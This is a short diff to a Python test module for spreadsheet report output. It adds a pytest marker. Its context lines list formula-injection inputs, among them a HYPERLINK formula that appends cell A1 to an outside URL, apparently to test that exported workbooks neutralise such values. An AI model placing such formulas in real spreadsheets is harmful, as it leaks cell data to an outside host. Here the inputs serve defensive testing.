@@ -20,6 +20,8 @@ from tests.hostile.conftest import Night
 from tests.reports.reading import cells
 from tests.reports.test_workbook import MADE
 
+pytestmark = pytest.mark.proof
+
 TEXTS = [
     '=HYPERLINK("http://example.org/?"&A1,"klicka")',
     "+1+1",
